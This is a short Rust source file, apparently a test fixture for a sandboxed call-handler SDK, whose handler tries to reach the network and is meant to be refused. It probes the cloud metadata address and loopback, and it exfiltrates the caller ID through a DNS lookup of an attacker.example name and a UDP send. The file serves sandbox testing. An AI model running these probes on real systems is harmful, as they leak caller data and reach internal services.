//! A handler that wants to reach the network by itself: the metadata service of a cloud, the host's own loopback, and a
//! name whose lookup alone would carry data out. There are no sockets and no names in a handler's world, so that it is
//! refused before it ever runs.

use std::io::Write;
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};

use voxtra_sdk::prelude::*;

#[handler]
fn handle(call: &Call) -> Result<()> {
    let caller = call.info().caller_id;
    for address in ["169.254.169.254:80", "127.0.0.1:8088", "[::1]:8088", "[::ffff:10.0.0.1]:80"] {
        let mut stream = TcpStream::connect(address)?;
        stream.write_all(b"GET / HTTP/1.0\r\n\r\n")?;
        log::warn!("{address} is open");
    }
    let looked_up = format!("{caller}.attacker.example:53").to_socket_addrs()?.count();
    let sent = UdpSocket::bind("0.0.0.0:0")?.send_to(caller.as_bytes(), "192.0.2.1:53")?;
    log::warn!("{looked_up} addresses, {sent} bytes out");
    Ok(())
}
